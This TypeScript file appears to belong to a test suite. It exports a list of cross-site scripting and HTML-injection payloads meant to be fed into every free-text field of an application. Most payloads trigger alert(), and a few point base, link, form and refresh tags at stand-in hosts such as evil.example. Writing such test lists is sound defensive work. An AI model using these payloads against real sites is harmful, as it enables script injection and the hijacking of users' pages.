/**
 * Texts that become script where a view forgets what a text is: one for each place and each trick. None is longer than
 * the shortest field of free text, so that each goes through every field.
 */
export const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '"><svg onload=alert(3)>',
  "' onfocus=alert(4) autofocus='",
  '" onmouseover="alert(5)" x="',
  '</title><script>alert(6)</script>',
  '</textarea><script>alert(7)</script>',
  '</style><script>alert(8)</script>',
  'javascript:alert(9)',
  '<a href=javascript:alert(10)>x</a>',
  '<iframe srcdoc="<script>alert(11)">',
  '{{7*7}}${alert(12)}<%=alert(12)%>',
  '<math href=javascript:alert(13)>x',
  '<base href=//evil.example/14/>',
  '<meta http-equiv=refresh content=0;//e>',
  '<link rel=stylesheet href=//evil.x/16>',
  '<form action=//evil.example/17><button>',
  '<!--><script>alert(18)</script>-->',
  '&lt;script&gt;alert(19)&lt;/script&gt;',
  '\\u003cscript\\u003ealert(20)',
  '+ADw-script+AD4-alert(21)',
  '<ſcript>alert(22)</ſcript>',
  '<svg><style><img src=x onerror=alert(23)>'.slice(0, 40),
  '<x onclick=alert(24)>\u2028</x>',
] as const
